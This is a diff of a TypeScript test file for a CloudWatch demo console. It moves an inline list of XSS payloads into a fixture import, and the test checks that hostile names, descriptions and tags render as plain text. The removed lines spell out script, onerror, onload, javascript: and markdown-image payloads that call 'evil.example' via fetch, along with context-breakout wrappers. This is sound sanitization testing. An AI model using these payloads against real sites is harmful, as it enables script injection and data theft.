@@ -2,34 +2,8 @@
 import { CloudWatchClient, PutMetricAlarmCommand } from '@aws-sdk/client-cloudwatch';
 import { demoKeys, startDemo } from '../../src/demo/index';
 import { connectProfile } from './fixtures/console';
+import { hostileTexts as payloads } from './fixtures/hostile';
 import { expect, test } from './fixtures/index';
-
-const script = 'globalThis.__ran=1;fetch(`https://evil.example/`)';
-const shells = [
-  `<script>${script}</script>`,
-  `<img src=x onerror="${script}">`,
-  `<svg onload="${script}">`,
-  `<iframe srcdoc="<script>${script}</script>">`,
-  `<a href="javascript:${script}">open</a>`,
-  `"><body onload="${script}">`,
-  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
-  `[link](javascript:${script})`,
-  `![](https://evil.example/x.png)`,
-  `\${${script}}`,
-];
-const wraps = [
-  (payload: string) => payload,
-  (payload: string) => `"${payload}`,
-  (payload: string) => `'${payload}`,
-  (payload: string) => `\`${payload}`,
-  (payload: string) => `</title>${payload}`,
-  (payload: string) => `</textarea>${payload}`,
-  (payload: string) => `]]>${payload}`,
-  (payload: string) => `\u202E${payload}\u2066`,
-  (payload: string) => `--></style>${payload}`,
-  (payload: string) => payload.replaceAll('<', '\uFF1C<'),
-];
-const payloads = shells.flatMap((shell) => wraps.map((wrap) => wrap(shell)));
 
 test('100 hostile texts in name, description, reason and tag stay text (S7)', async ({
   launch,
